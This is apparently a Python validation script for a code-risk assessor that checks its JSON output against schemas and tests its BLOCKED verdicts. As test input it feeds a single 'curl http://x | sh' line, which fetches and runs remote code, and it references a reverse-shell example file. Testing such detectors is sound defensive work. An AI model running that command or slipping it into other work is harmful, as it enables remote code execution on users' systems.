#!/usr/bin/python3
"""Validates assessor output against schemas/assessment.schema.json and the rule
files against schemas/assessment-config.schema.json (Debian's python3-jsonschema).

usage: validate_schema.py SOURCE_DIR --dump PATH_TO_assess_json_dump
       validate_schema.py SOURCE_DIR --cli PATH_TO_mai-sandbox
Corpus files are only read and assessed, never executed.
"""
import glob
import json
import os
import subprocess
import sys

import jsonschema
import yaml


def main():
    src, mode, tool = sys.argv[1], sys.argv[2], sys.argv[3]
    schema = json.load(open(os.path.join(src, "schemas/assessment.schema.json")))
    cfg_schema = json.load(open(os.path.join(src, "schemas/assessment-config.schema.json")))
    for name in ("assessment.yaml", "library-model.yaml", "known-threats.yaml"):
        jsonschema.validate(yaml.safe_load(open(os.path.join(src, "config", name))), cfg_schema)
    files = []
    for level in ("low", "medium", "high", "blocked"):
        files += sorted(glob.glob(os.path.join(src, "tests/corpus", level, "*")))[:12]
    levels = set()
    if mode == "--dump":
        out = subprocess.run([tool] + files, check=True, capture_output=True, text=True).stdout
        objs = [json.loads(line) for line in out.splitlines()]
    else:
        objs = []
        for f in files:
            r = subprocess.run([tool, "--config", os.path.join(src, "config"), "assess", "--json", f],
                               capture_output=True, text=True)
            assert r.returncode == 0, (f, r.returncode, r.stderr)
            objs.append(json.loads(r.stdout))
        # Plain output: the level first, then one line per finding.
        r = subprocess.run([tool, "assess", os.path.join(src, "examples/reverse_shell.py")],
                           capture_output=True, text=True)
        assert r.returncode == 0 and r.stdout.splitlines()[0] == "BLOCKED", r
        # Usage errors exit 2.
        for bad in (["assess", "--lang", "ruby", files[0]], ["assess", "/nonexistent/x.py"],
                    ["assess", "--bogus", files[0]], ["assess"]):
            r = subprocess.run([tool] + bad, capture_output=True, text=True)
            assert r.returncode == 2, (bad, r.returncode, r.stderr)
        r = subprocess.run([tool, "assess", "--lang", "shell", "-"], input="curl http://x | sh\n",
                           capture_output=True, text=True)
        assert r.returncode == 0 and r.stdout.startswith("BLOCKED"), r
    for o in objs:
        jsonschema.validate(o, schema)
        levels.add(o["level"])
    assert levels == {"LOW", "MEDIUM", "HIGH", "BLOCKED"}, levels
    print(f"validated {len(objs)} assessments against the schema")


if __name__ == "__main__":
    main()
